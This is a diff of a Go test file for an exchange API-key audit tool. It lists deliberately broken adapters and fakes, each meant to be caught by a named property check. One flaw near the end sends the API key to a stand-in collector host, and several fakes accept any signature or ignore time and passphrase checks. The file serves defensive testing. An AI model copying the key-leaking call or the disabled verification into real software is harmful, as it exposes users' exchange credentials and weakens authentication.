@@ -18,13 +18,13 @@ import (
 	"github.com/exchangekeyaudit/exchangekeyaudit/exchanges/internal/wire"
 )
 
-// flaw breaks the reference in one place; the property must see it.
+// flaw breaks the reference in one place; the property must notice it.
 type flaw struct {
 	name, property string
-	only           bool // no other property sees it
+	only           bool // no other property notices it
 	steps          func(*steps)
 	adapter        func(*adapter.Exchange)
-	fake           func(*definition)
+	fake           func(*Definition)
 }
 
 // after changes what the adapter found.
@@ -39,14 +39,14 @@ func misread(f func(*access.Error)) func(*steps) {
 	}
 }
 
-// stated is an adapter that makes this of the word for the key's state.
-func stated(f func(word string, told bool) access.KeyState) func(*steps) {
+// stated changes how the adapter reads the word for the key's state.
+func stated(f func(word string, present bool) access.KeyState) func(*steps) {
 	return func(do *steps) {
 		do.state = func(account wire.Object) access.KeyState { return f(account.Text("state")) }
 	}
 }
 
-// wrapped puts something around the adapter's Inspect.
+// wrapped wraps the adapter's Inspect.
 func wrapped(f func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error)) func(*adapter.Exchange) {
 	return func(e *adapter.Exchange) {
 		next := e.Inspect
@@ -66,7 +66,7 @@ func setGrant(s *access.Snapshot, capability access.Capability, state access.Sta
 	s.Grants = append(s.Grants, access.Grant{Capability: capability, State: state, Evidence: access.Reported})
 }
 
-// optimist takes whatever it can't read for a key without rights.
+// optimist takes any answer that it cannot read for that of a key without rights.
 func optimist(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 	found, err := next(ctx, s)
 	if errors.Is(err, access.KindNotUnderstood) {
@@ -77,32 +77,36 @@ func optimist(ctx context.Context, s *adapter.Session, next inspect) (*access.Sn
 }
 
 var flaws = []flaw{
+	{name: "a fake without vectors", property: "definition", fake: func(d *Definition) { d.Vectors = nil }},
+	{name: "a fake that verifies nothing", property: "definition", fake: func(d *Definition) { d.Verify = nil }},
+	{name: "a refusal that may mean anything", property: "definition", fake: func(d *Definition) { d.Failures[0].Kind = access.KindAmbiguous }},
+
 	{name: "no documentation", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Docs = "" }},
 	{name: "a call without a reason", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Calls[0].Why = "" }},
 	{name: "a call that writes", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Calls[0].Method = http.MethodDelete }},
-	{name: "a call the fake doesn't have", property: "descriptor", adapter: func(e *adapter.Exchange) {
+	{name: "a call that the fake does not answer", property: "descriptor", adapter: func(e *adapter.Exchange) {
 		e.Calls = append(e.Calls, adapter.Call{Method: "GET", Path: "/old", Why: "history", When: "never"})
 	}},
 	{name: "plain http", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Environments[0].URLs[0] = "http://api.reference.example" }},
-	{name: "a host the fake doesn't know", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Environments[1].URLs[0] = "https://other.example" }},
-	{name: "a host no environment has", property: "descriptor", fake: func(d *definition) { d.hosts = append(d.hosts, "forgotten.example") }},
-	{name: "a kind of key nobody can test", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Needs.Kinds = append(e.Needs.Kinds, access.RSAKey) }},
+	{name: "a host that the fake does not have", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Environments[1].URLs[0] = "https://other.example" }},
+	{name: "a host that no environment has", property: "descriptor", fake: func(d *Definition) { d.Hosts = append(d.Hosts, "forgotten.example") }},
+	{name: "a kind of key that the fake does not issue", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Needs.Kinds = append(e.Needs.Kinds, access.RSAKey) }},
 
-	{name: "a fake that signs otherwise than documented", property: "vectors", fake: func(d *definition) { d.vectors[0].Header["X-Time"] = "1776149990533" }},
-	{name: "a fake without vectors", property: "vectors", fake: func(d *definition) { d.vectors = nil }},
+	{name: "a fake that does not verify as documented", property: "vectors", fake: func(d *Definition) { d.Vectors[0].Header["X-Time"] = "1776149990533" }},
+	{name: "a vector with another secret", property: "vectors", fake: func(d *Definition) { d.Vectors[0].Secret += "x" }},
 
-	{name: "a fake that doesn't verify", property: "verifier", fake: func(d *definition) { d.verify = func(*call) *Reply { return nil } }},
-	{name: "a fake that doesn't look at the time", property: "verifier", fake: func(d *definition) {
-		verify := d.verify
-		d.verify = func(c *call) *Reply { c.now = noonOf(c); return verify(c) }
+	{name: "a fake that accepts every signature", property: "verifier", fake: func(d *Definition) { d.Verify = func(*Call) *Reply { return nil } }},
+	{name: "a fake that ignores the time", property: "verifier", fake: func(d *Definition) {
+		verify := d.Verify
+		d.Verify = func(c *Call) *Reply { c.Now = noonOf(c); return verify(c) }
 	}},
-	{name: "a fake that doesn't look at the passphrase", property: "verifier", fake: func(d *definition) {
-		verify := d.verify
-		d.verify = func(c *call) *Reply { c.Header.Set("X-Pass", c.key.passphrase); return verify(c) }
+	{name: "a fake that ignores the passphrase", property: "verifier", fake: func(d *Definition) {
+		verify := d.Verify
+		d.Verify = func(c *Call) *Reply { c.Header.Set("X-Pass", c.Key.Passphrase); return verify(c) }
 	}},
-	{name: "a fake that signs without the path", property: "verifier", fake: func(d *definition) {
-		verify := d.verify
-		d.verify = func(c *call) *Reply {
+	{name: "a fake that ignores the path", property: "verifier", fake: func(d *Definition) {
+		verify := d.Verify
+		d.Verify = func(c *Call) *Reply {
 			in := *c
 			in.Request = c.Clone(c.Context())
 			if in.URL.Path != "/allowlist" {
@@ -112,25 +116,25 @@ var flaws = []flaw{
 		}
 	}},
 
-	{name: "one header more", property: "request", steps: func(do *steps) { do.dress = func(h http.Header) { h.Set("X-Broker", "friend") } }},
+	{name: "an extra header", property: "request", steps: func(do *steps) { do.dress = func(h http.Header) { h.Set("X-Broker", "friend") } }},
 	{name: "a wrong signing input", property: "request", steps: func(do *steps) {
 		do.text = func(stamp, key, host, path string) string { return key + stamp + host + path }
 	}},
 
 	{name: "an undeclared call", property: "guard", adapter: func(e *adapter.Exchange) { e.Calls = e.Calls[1:] }},
-	{name: "a call made twice", property: "guard", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
+	{name: "a repeated call", property: "guard", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		_, _ = next(ctx, s)
 		return next(ctx, s)
 	})},
-	{name: "a call declared and not made", property: "guard", adapter: func(e *adapter.Exchange) { e.Calls[2].When = "" }},
+	{name: "a declared call that is not made", property: "guard", adapter: func(e *adapter.Exchange) { e.Calls[2].When = "" }},
 
 	{name: "always the first host", property: "environments", steps: func(do *steps) {
 		do.text = func(stamp, key, _, path string) string { return stamp + key + "api.reference.example" + path }
 	}},
 
-	{name: "a fake that works in the process only", property: "served", fake: func(d *definition) {
-		verify := d.verify
-		d.verify = func(c *call) *Reply {
+	{name: "a fake that works in-process only", property: "served", fake: func(d *Definition) {
+		verify := d.Verify
+		d.Verify = func(c *Call) *Reply {
 			in := *c
 			in.Request = c.Clone(c.Context())
 			in.Host = c.URL.Host
@@ -138,7 +142,7 @@ var flaws = []flaw{
 		}
 	}},
 
-	{name: "the guard's refusal hidden", property: "redirect", steps: misread(func(err *access.Error) {
+	{name: "hides the guard's refusal", property: "redirect", steps: misread(func(err *access.Error) {
 		if err.Kind == access.KindGuard {
 			err.Kind = access.KindUnavailable
 		}
@@ -158,23 +162,23 @@ var flaws = []flaw{
 	}},
 
 	{name: "seconds for milliseconds", property: "round-trip", steps: after(func(s *access.Snapshot) { s.Created = time.Unix(s.Created.UnixMilli(), 0) })},
-	{name: "* not seen as open", property: "round-trip", steps: after(func(s *access.Snapshot) { s.IPAllowlist.State = access.AllowlistRestricted })},
+	{name: "* not read as unrestricted", property: "round-trip", steps: after(func(s *access.Snapshot) { s.IPAllowlist.State = access.AllowlistRestricted })},
 	{name: "a wrong capability", property: "round-trip", steps: after(func(s *access.Snapshot) {
 		setGrant(s, access.Withdraw, s.Grant(access.TradeFutures).State)
 	})},
 	{
-		name: "what a key may hold read as denied", property: "round-trip", steps: after(func(s *access.Snapshot) { setGrant(s, access.TradeMargin, access.Denied) }),
+		name: "a right that a key may hold read as denied", property: "round-trip", steps: after(func(s *access.Snapshot) { setGrant(s, access.TradeMargin, access.Denied) }),
 		adapter: func(e *adapter.Exchange) { e.Coverage.Reports = append(e.Coverage.Reports, access.TradeMargin) },
-		fake: func(d *definition) {
-			d.perhaps = map[string][]access.Capability{"spot.trade": {access.TradeMargin}}
+		fake: func(d *Definition) {
+			d.MayGrant = map[string][]access.Capability{"spot.trade": {access.TradeMargin}}
 		},
 	},
 	{name: "a right not granted", property: "round-trip", steps: after(func(s *access.Snapshot) { setGrant(s, access.TradeSpot, access.Unknown) })},
 	{name: "a sub-account taken for a main one", property: "round-trip", steps: after(func(s *access.Snapshot) { s.Account.Kind = access.MainAccount })},
 	{name: "the expiry dropped", property: "round-trip", steps: after(func(s *access.Snapshot) { s.Expires = time.Time{} })},
 
-	{name: "a promise not kept", property: "coverage", adapter: func(e *adapter.Exchange) { e.Coverage.LastUsed = adapter.Sometimes }},
-	{name: "a fact not promised", property: "coverage", adapter: func(e *adapter.Exchange) { e.Coverage.Created = adapter.Never }},
+	{name: "a fact promised and not reported", property: "coverage", adapter: func(e *adapter.Exchange) { e.Coverage.LastUsed = adapter.Sometimes }},
+	{name: "a fact reported and not promised", property: "coverage", adapter: func(e *adapter.Exchange) { e.Coverage.Created = adapter.Never }},
 	{name: "a capability that no key has", property: "coverage", adapter: func(e *adapter.Exchange) {
 		e.Coverage.Reports = append(e.Coverage.Reports, access.TradeOptions)
 	}},
@@ -196,7 +200,7 @@ var flaws = []flaw{
 			setGrant(s, access.Withdraw, access.Denied)
 		}
 	})},
-	{name: "a missing field read as bound", property: "missing-field", steps: after(func(s *access.Snapshot) {
+	{name: "a missing field read as an IP allowlist", property: "missing-field", steps: after(func(s *access.Snapshot) {
 		if s.IPAllowlist.State == access.AllowlistUnknown {
 			s.IPAllowlist.State = access.AllowlistRestricted
 		}
@@ -212,7 +216,7 @@ var flaws = []flaw{
 		}
 	})},
 
-	{name: "the last of two members", property: "doubled-field", steps: func(do *steps) {
+	{name: "the last of two members", property: "duplicate-field", steps: func(do *steps) {
 		do.decode = func(body []byte) (wire.Object, error) {
 			var v any
 			if json.Unmarshal(body, &v) != nil {
@@ -226,21 +230,21 @@ var flaws = []flaw{
 		}
 	}},
 
-	{name: "every state but the known bad one taken for active", property: "unknown-state", only: true, steps: stated(func(word string, _ bool) access.KeyState {
+	{name: "every state but the known bad one read as active", property: "unknown-state", only: true, steps: stated(func(word string, _ bool) access.KeyState {
 		return map[bool]access.KeyState{true: access.KeyDisabled, false: access.KeyActive}[word == "off"]
 	})},
-	{name: "a state in another case taken for the known one", property: "unknown-state", only: true, steps: stated(func(word string, _ bool) access.KeyState {
+	{name: "a state in another case read as the known one", property: "unknown-state", only: true, steps: stated(func(word string, _ bool) access.KeyState {
 		return map[bool]access.KeyState{true: access.KeyActive, false: access.KeyUnclear}[strings.EqualFold(word, "on")]
 	})},
-	{name: "a state of null taken for a good one", property: "unknown-state", only: true, steps: stated(func(word string, told bool) access.KeyState {
-		return map[bool]access.KeyState{true: access.KeyActive, false: access.KeyUnclear}[word == "on" || !told]
+	{name: "a state of null read as a good one", property: "unknown-state", only: true, steps: stated(func(word string, present bool) access.KeyState {
+		return map[bool]access.KeyState{true: access.KeyActive, false: access.KeyUnclear}[word == "on" || !present]
 	})},
 	{name: "the state not read", property: "unknown-state", only: true, steps: stated(func(string, bool) access.KeyState { return access.KeyStateUnknown })},
 
 	{name: "another type read as none", property: "wrong-type", adapter: wrapped(optimist)},
-	{name: "half an answer taken for one", property: "truncated", adapter: wrapped(optimist)},
-	{name: "any answer taken for one", property: "garbage", adapter: wrapped(optimist)},
-	{name: "a proxy's refusal taken for the exchange's", property: "garbage", steps: misread(func(err *access.Error) {
+	{name: "half an answer read as a whole one", property: "truncated", adapter: wrapped(optimist)},
+	{name: "any answer read as one of the exchange", property: "garbage", adapter: wrapped(optimist)},
+	{name: "a proxy's refusal read as the exchange's", property: "garbage", steps: misread(func(err *access.Error) {
 		if err.Status == http.StatusForbidden {
 			err.Kind = access.KindIPNotAllowed
 		}
@@ -254,7 +258,7 @@ var flaws = []flaw{
 			err.Kind = access.KindBadSignature
 		}
 	})},
-	{name: "the answer's code ignored", property: "failures", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
+	{name: "the code in the answer ignored", property: "failures", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		found, err := next(ctx, s)
 		if e := (*access.Error)(nil); errors.As(err, &e) && e.Status == http.StatusOK {
 			return &access.Snapshot{}, nil
@@ -263,26 +267,26 @@ var flaws = []flaw{
 	})},
 	{name: "the status lost", property: "failures", steps: misread(func(err *access.Error) { err.Status = 0 })},
 	{name: "the candidates lost", property: "failures", steps: misread(func(err *access.Error) { err.Candidates = nil })},
-	{name: "retries by itself", property: "failures", steps: func(do *steps) { do.tries = 3 }},
+	{name: "retries", property: "failures", steps: func(do *steps) { do.tries = 3 }},
 
-	{name: "an unknown code explained away", property: "undocumented", steps: misread(func(err *access.Error) {
+	{name: "the meaning of an unknown code guessed", property: "undocumented", steps: misread(func(err *access.Error) {
 		if err.Kind == access.KindNotUnderstood {
 			err.Kind = access.KindBadKey
 		}
 	})},
-	{name: "a refusal without a code taken for an answer", property: "undocumented", adapter: wrapped(optimist)},
+	{name: "a refusal without a code read as an answer", property: "undocumented", adapter: wrapped(optimist)},
 	{name: "the code lost", property: "undocumented", steps: misread(func(err *access.Error) {
 		if err.Kind == access.KindNotUnderstood {
 			err.Code = ""
 		}
 	})},
 
-	{name: "an overload taken for a wrong key", property: "transport", steps: misread(func(err *access.Error) {
+	{name: "an overload read as a wrong key", property: "transport", steps: misread(func(err *access.Error) {
 		if err.Kind == access.KindUnavailable {
 			err.Kind = access.KindBadKey
 		}
 	})},
-	{name: "retries a broken connection by itself", property: "transport", steps: func(do *steps) { do.tries = 2 }},
+	{name: "retries a broken connection", property: "transport", steps: func(do *steps) { do.tries = 2 }},
 
 	{name: "a wrong clock of the exchange", property: "clock", adapter: func(e *adapter.Exchange) {
 		e.ServerTime = func(context.Context, *adapter.Session) (time.Time, error) { return noon.Add(-day), nil }
@@ -320,7 +324,7 @@ var flaws = []flaw{
 		return found, err
 	})},
 
-	{name: "shares what it found", property: "parallel", adapter: func(e *adapter.Exchange) {
+	{name: "shares what it found between keys", property: "parallel", adapter: func(e *adapter.Exchange) {
 		var latest atomic.Pointer[string] // no race, and wrong all the same
 		wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 			key := s.Key()
@@ -333,7 +337,7 @@ var flaws = []flaw{
 		})(e)
 	}},
 
-	{name: "goes past the session", property: "no-bypass", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
+	{name: "bypasses the session", property: "no-bypass", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		if resp, err := http.Get("https://collector.example/?key=" + s.Key()); err == nil {
 			_ = resp.Body.Close()
 		}
@@ -341,9 +345,9 @@ var flaws = []flaw{
 	})},
 }
 
-// TestFlaws: each broken adapter, or fake, is seen by the property it breaks.
+// TestFlaws: the property that a broken adapter or fake violates notices it.
 func TestFlaws(t *testing.T) {
-	t.Setenv("UPDATE_GOLDEN", "") // a flaw must not become the norm
+	t.Setenv("UPDATE_GOLDEN", "") // a flaw must not become the golden file
 	seen := map[string]bool{}
 	for _, f := range flaws {
 		seen[f.property] = true
@@ -361,7 +365,7 @@ func TestFlaws(t *testing.T) {
 				if f.fake != nil {
 					f.fake(&def)
 				}
-				return newFake(def)
+				return New(def)
 			}
 			for _, p := range properties {
 				switch {
@@ -374,15 +378,15 @@ func TestFlaws(t *testing.T) {
 		})
 	}
 	for _, p := range properties {
-		assert.True(t, seen[p.name], "no flaw shows that %q is checked", p.name)
+		assert.True(t, seen[p.name], "no flaw shows that %q checks anything", p.name)
 	}
 }
 
-// noonOf gives a request's own time, as an exchange would that trusts it.
-func noonOf(c *call) time.Time {
+// noonOf is a request's own time, as an exchange would read that trusts it.
+func noonOf(c *Call) time.Time {
 	ms, err := time.ParseDuration(c.Header.Get("X-Time") + "ms")
 	if err != nil {
-		return c.now
+		return c.Now
 	}
 	return time.UnixMilli(ms.Milliseconds())
 }
